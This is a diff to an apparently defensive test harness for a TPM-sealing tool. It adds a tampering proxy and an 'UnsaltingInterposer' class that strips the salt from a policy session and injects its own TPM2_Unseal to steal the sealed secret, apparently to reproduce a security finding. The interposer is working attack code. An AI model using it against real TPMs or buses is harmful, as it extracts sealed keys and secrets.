@@ -104,6 +104,7 @@ class Exchange:
     t_command: float         # time.monotonic() when the command was complete at the proxy
     t_response: float
     delivered: bool = True   # False: the client was killed instead (kill_after)
+    injected: bool = False   # sent by a tamper hook, not by the client
 
     @property
     def tag(self) -> int:
@@ -193,7 +194,9 @@ class TpmProxy:
         self.dir = Path(tempfile.mkdtemp(prefix="pcrtool-proxy-")) if directory is None else Path(directory)
         self.socket_path = self.dir / "proxy.sock"
         self.exchanges: list[Exchange] = []
-        self.tamper_command: Callable[[bytes], bytes] | None = None
+        # tamper_command(cmd, send) -> cmd: rewrite a command in flight; send(raw) -> response
+        # issues a command of its own on the same TPM connection first (recorded as injected)
+        self.tamper_command: Callable[[bytes, Callable[[bytes], bytes]], bytes] | None = None
         self.tamper_response: Callable[[bytes, bytes], bytes] | None = None
         self.killed: list[tuple[int, int]] = []        # (pid, after command seq)
         self._lock = threading.Lock()
@@ -309,6 +312,15 @@ class TpmProxy:
             t.start()
             self._threads.append(t)
 
+    def _inject(self, upstream: socket.socket, conn: int, raw: bytes) -> bytes:
+        t = time.monotonic()
+        upstream.sendall(raw)
+        resp = _read_buffer(upstream) or b""
+        with self._lock:
+            self.exchanges.append(Exchange(len(self.exchanges) + 1, conn, raw, resp, t, time.monotonic(),
+                                           delivered=False, injected=True))
+        return resp
+
     def _serve(self, client: socket.socket, conn: int) -> None:
         upstream = None
         try:
@@ -326,7 +338,7 @@ class TpmProxy:
                     upstream.connect(str(self.upstream))
                 t_cmd = time.monotonic()
                 if self.tamper_command is not None:
-                    cmd = self.tamper_command(cmd)
+                    cmd = self.tamper_command(cmd, lambda raw, up=upstream, c=conn: self._inject(up, c, raw))
                 upstream.sendall(cmd)
                 resp = _read_buffer(upstream)
                 if resp is None:
@@ -468,3 +480,66 @@ def boot(sw, doc: dict, index: int, *, unclean: bool = False) -> None:
         args.append(f"{m['pcr']}:{banks}")
     for a in args:   # one call per measurement keeps the order explicit
         tpm2_tools(sw, "tpm2_pcrextend", a)
+
+
+# --- an active interposer (issue 13 finding 10) ---------------------------------------------------
+
+TPM_RH_NULL = 0x40000007
+TPM_SE_POLICY = 0x01
+
+
+class UnsaltingInterposer:
+    """A device on the bus that rewrites pcrtool's salted policy-session StartAuthSession into an
+    unsalted, unbound one (its session key is then empty: known to everybody), lets pcrtool satisfy
+    the policy, and before pcrtool's TPM2_Unseal sends its own TPM2_Unseal on that session, without
+    parameter encryption and with an empty HMAC. ``stolen`` collects what the TPM gave it."""
+
+    def __init__(self) -> None:
+        self.rewritten = 0
+        self.hijacked: set[int] = set()
+        self.stolen: list[bytes] = []
+        self.answers: list[int] = []    # return codes of the injected Unseals
+        self._pending = False
+
+    def install(self, proxy: TpmProxy) -> "UnsaltingInterposer":
+        proxy.tamper_command, proxy.tamper_response = self.on_command, self.on_response
+        return self
+
+    def on_command(self, cmd: bytes, send) -> bytes:
+        x = Exchange(0, 0, cmd, b"", 0.0, 0.0)
+        if x.cc == CC["StartAuthSession"]:
+            params = x.parameters()
+            (nlen,) = struct.unpack(">H", params[:2])
+            salt_at = 2 + nlen
+            (slen,) = struct.unpack(">H", params[salt_at:salt_at + 2])
+            rest = params[salt_at + 2 + slen:]
+            tpm_key, bind = x.handles
+            if rest[0] == TPM_SE_POLICY and tpm_key != TPM_RH_NULL:
+                auth_area = cmd[18:len(cmd) - len(params)]
+                body = struct.pack(">II", TPM_RH_NULL, bind) + auth_area + params[:salt_at] + b"\0\0" + rest
+                self._pending = True
+                self.rewritten += 1
+                return struct.pack(">HII", x.tag, 10 + len(body), x.cc) + body
+        elif x.cc == CC["Unseal"]:
+            for sess in x.sessions():
+                if sess.handle in self.hijacked:
+                    self._steal(x.handles[0], sess.handle, send)
+        return cmd
+
+    def on_response(self, cmd: bytes, resp: bytes) -> bytes:
+        if self._pending and struct.unpack(">I", cmd[6:10])[0] == CC["StartAuthSession"]:
+            self._pending = False
+            if struct.unpack(">I", resp[6:10])[0] == 0:
+                self.hijacked.add(struct.unpack(">I", resp[10:14])[0])
+        return resp
+
+    def _steal(self, item: int, session: int, send) -> None:
+        nonce = os.urandom(16)
+        auth = struct.pack(">IH", session, len(nonce)) + nonce + struct.pack(">BH", 0x01, 0)  # continueSession
+        body = struct.pack(">II", item, len(auth)) + auth
+        resp = send(struct.pack(">HII", ST_SESSIONS, 10 + len(body), CC["Unseal"]) + body)
+        rc = struct.unpack(">I", resp[6:10])[0] if len(resp) >= 10 else -1
+        self.answers.append(rc)
+        if rc == 0:   # parameterSize(4), outData TPM2B
+            (dlen,) = struct.unpack(">H", resp[14:16])
+            self.stolen.append(resp[16:16 + dlen])
